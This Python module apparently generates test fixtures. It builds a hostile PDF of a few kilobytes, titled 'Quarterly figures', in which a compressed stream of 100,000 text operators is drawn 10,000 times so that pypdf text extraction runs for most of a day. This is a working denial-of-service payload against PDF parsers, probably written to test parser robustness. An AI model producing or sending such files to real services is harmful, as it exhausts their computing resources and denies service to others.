"""A hostile PDF of a few kB."""

from __future__ import annotations

from .page import Book, Pen
from .pdf import stream


def operator_bomb(operators: int = 100_000, repeats: int = 10_000) -> bytes:
    """A page that shows one letter a thousand million times.

    A Flate stream of 100,000 text operators shrinks to a few kB, and the page
    draws it 10,000 times over. pypdf needs some 50 us an operator, so that
    extracting the text takes most of a day while memory hardly grows.
    """
    book = Book("Quarterly figures")
    text = b"BT /F1 12 Tf " + b"(x) Tj 0 1 Td " * operators + b"ET"
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + book.resources
    form = book.file.add(stream(text, entries))
    book.use(other=b"/XObject<</Again %d 0 R>>" % form)
    pen = Pen()
    for _ in range(repeats):
        pen.raw("/Again Do")
    book.page(pen)
    return book.finish()
